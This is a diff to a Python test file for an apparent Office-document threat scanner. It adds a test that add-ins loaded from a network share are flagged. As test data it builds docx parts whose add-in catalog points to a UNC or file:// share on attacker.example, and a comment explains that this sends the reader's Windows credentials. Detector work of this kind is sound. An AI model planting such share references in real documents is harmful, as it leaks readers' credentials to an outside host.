@@ -682,6 +682,33 @@ def test_a_hyperlink_to_a_network_share(target: str) -> None:
     assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "hyperlink")]
 
 
+WE = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
+
+
+@pytest.mark.parametrize(
+    ("store", "store_type", "flagged"),
+    [
+        ("\\\\attacker.example\\share", "FileSystem", True),
+        ("file://attacker.example/share", "FileSystem", True),
+        ("en-US", "OMEX", False),  # the Office store's add-in, by its market
+        ("https://contoso.sharepoint.com/sites/AppCatalog", "SPCatalog", False),
+    ],
+)
+def test_an_add_in_loaded_from_a_network_share(store: str, store_type: str, flagged: bool) -> None:
+    # a task pane shown when the document opens, from a catalog on a share: Office reads the
+    # share for its manifest, sending it the reader's Windows credentials
+    extension = (
+        f'{XML}<we:webextension xmlns:we="{WE}" id="{{6C1E6A6B-2B5F-4B5E-9C11-6F1B2D6A8A01}}">'
+        f'<we:reference id="{{D5B4F1D6-7E2B-4A7D-8B1F-2C2E4B7C9A10}}" version="1.0.0.0" '
+        f'store="{store}" storeType="{store_type}"/></we:webextension>'
+    )
+    part = "word/webextensions/webextension1.xml"
+    rels = [("http://schemas.microsoft.com/office/2011/relationships/webextension",
+             "webextensions/webextension1.xml", False)]  # fmt: skip
+    report = analyse_package(docx(rels=rels, parts={part: extension}))
+    assert threats(report) == ([(OpcKind.EXTERNAL_LINK, part, "add-in")] if flagged else [])
+
+
 def test_internal_relationship_with_a_url_target_counts_as_external() -> None:
     report = analyse_package(docx(rels=[("image", "https://attacker.example/a.png", False)]))
     assert threats(report) == [(OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "image")]
